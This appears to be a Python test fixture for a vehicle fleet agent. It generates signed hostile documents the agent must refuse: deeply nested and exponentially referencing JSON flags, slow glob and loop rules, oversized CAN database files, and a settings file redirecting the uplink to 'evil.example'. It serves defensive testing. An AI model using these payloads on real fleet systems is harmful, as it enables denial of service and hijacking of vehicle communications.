"""Makes documents that would harm a vehicle, and that the fleet's own keys sign without the checks of `fleet publish`.

A new kind of documents adds its attacks to BOMBS, and tests/attacks/test_pushes.py plays them all.
"""

import json
from dataclasses import dataclass

from agent.formats.down.documents import CAMPAIGN, SETTINGS, TOGGLES
from tests.agent.pushes.world import campaign


@dataclass(frozen=True)
class Bomb:
    """One signed document that must be refused before it takes effect."""

    name: str
    how: str
    path: str
    content: bytes


PLAIN = {"state": "ENABLED", "variants": {"on": True, "off": False}, "defaultVariant": "off"}


def flag(targeting: object, **more: object) -> bytes:
    return json.dumps({"flags": {"bomb": PLAIN | {"targeting": targeting}}} | more).encode()


def doubling(levels: int) -> bytes:
    shared: dict[str, object] = {f"e{level}": {"and": [{"$ref": f"e{level + 1}"}] * 2} for level in range(levels)}
    return flag({"if": [{"$ref": "e0"}, "on", "off"]}, **{"$evaluators": shared | {f"e{levels}": {"var": "x"}}})


def loops(depth: int) -> object:
    inner: object = {"var": ""}
    for _ in range(depth):
        inner = {"map": [list(range(30)), inner]}
    return {"if": [{"==": [{"cat": [inner]}, "x"]}, "on", "off"]}


def globs(rules: int, stars: int) -> bytes:
    names = [{"name": f"{'*e' * stars}{number}"} for number in range(rules)]
    return json.dumps(json.loads(campaign("bomb")) | {"signalsToCollect": names}).encode()


def nested_multiplexers(count: int) -> bytes:
    """Return a database in which each multiplexer selects all that come after it: the plan grows with the square."""
    lines = (b' SG_ S%d m%dM : 0|8@1+ (1,0) [0|1] "" A\n' % (number, number) for number in range(count))
    return b"BO_ 1 M: 8 A\n" + b"".join(lines)


def many_signals(count: int) -> bytes:
    lines = (b' SG_ S%d : %d|1@1+ (1,0) [0|1] "" A\n' % (number, number % 64) for number in range(count))
    return b"BO_ 1 M: 8 A\n" + b"".join(lines)


def many_texts(count: int) -> bytes:
    texts = b" ".join(b'%d ""' % number for number in range(count))
    return b'BO_ 1 M: 8 A\n SG_ S : 0|32@1+ (1,0) [0|0] "" A\nVAL_ 1 S ' + texts + b" ;\n"


LOCAL_ONLY = b'[uplink]\nbroker = "evil.example:8883"\n\n[state]\nfolder = "/"\n'
DATABASE_PATH = "dbc/can0/bomb.dbc"


BOMBS = (
    Bomb(
        "signed toggles nest deeply",
        "A signed document nests 100,000 lists.",
        TOGGLES.path_of("bomb"),
        b'{"flags": {"bomb": ' + b"[" * 100_000 + b"]" * 100_000 + b"}}",
    ),
    Bomb(
        "signed toggles double their references",
        "Forty $evaluators refer twice to the next one each: 2^40 nodes.",
        TOGGLES.path_of("bomb"),
        doubling(40),
    ),
    Bomb(
        "a signed rule takes hours",
        "A rule of six nested loops over 30 elements each.",
        TOGGLES.path_of("bomb"),
        flag(loops(6)),
    ),
    Bomb(
        "the globs of a signed campaign take minutes",
        "500 globs of 30 stars each, which a vehicle with 4,000 signals resolves in 40 s on a PC.",
        CAMPAIGN.path_of("bomb"),
        globs(500, 30),
    ),
    Bomb(
        "signed settings name another broker",
        "A document of settings sets the broker and the folder of the state, which belong to the vehicle alone.",
        SETTINGS.path_of(""),
        LOCAL_ONLY,
    ),
    Bomb(
        "a signed database nests its multiplexers",
        "20,000 multiplexers select all that come after them, so the plan grows with the square of the file.",
        DATABASE_PATH,
        nested_multiplexers(20_000),
    ),
    Bomb(
        "a signed database has too many signals",
        "One message has 350,000 signals.",
        DATABASE_PATH,
        many_signals(350_000),
    ),
    Bomb(
        "a signed database has too many texts",
        "One signal has texts for 1,400,000 values.",
        DATABASE_PATH,
        many_texts(1_400_000),
    ),
)
